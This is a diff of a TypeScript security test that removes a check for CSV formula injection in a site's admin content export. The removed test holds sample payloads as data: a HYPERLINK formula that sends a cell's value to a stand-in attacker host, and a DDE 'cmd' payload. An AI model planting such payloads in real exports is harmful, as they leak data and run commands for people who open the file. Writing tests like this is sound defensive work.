@@ -40,17 +40,3 @@ export async function hostile(server: SiteServer, cookie: string): Promise<Found
     ],
   };
 }
-
-/** What looks like a formula is a text here, and no formula in what is exported. */
-export async function formulas(server: SiteServer, cookie: string): Promise<Found> {
-  const cells = ['=HYPERLINK("http://evil.example/?x="&A1)', "+1+cmd|' /C calc'!A0", '@SUM(1)', '-2+3', '\t=1+1'];
-  const table = ['Name,Description,Priority', ...cells.map((cell) => `"${cell.replaceAll('"', '""')}",Text,1`)];
-  const { data, text } = await sendTable(server, cookie, Buffer.from(table.join('\n')));
-  if (!data) return { tried: cells.length, broken: [`Formulas were not read: ${text.slice(0, 200)}`] };
-  await runToEnd(server, cookie, data.id);
-  const file = await fetch(`${server.address}/api/admin/content/startup/export/?format=csv`, { headers: { cookie } });
-  const lines = (await file.text()).split(/\r?\n/);
-  // A phone number is none.
-  const open = lines.flatMap((line) => /(?:^|,)"?(?:[=@\t]|[+-](?![\d ]+"?(?:,|$)))[^,]*/.exec(line)?.[0] ?? []);
-  return { tried: cells.length, broken: open.map((cell) => `The export holds a formula: ${cell.slice(0, 80)}`) };
-}
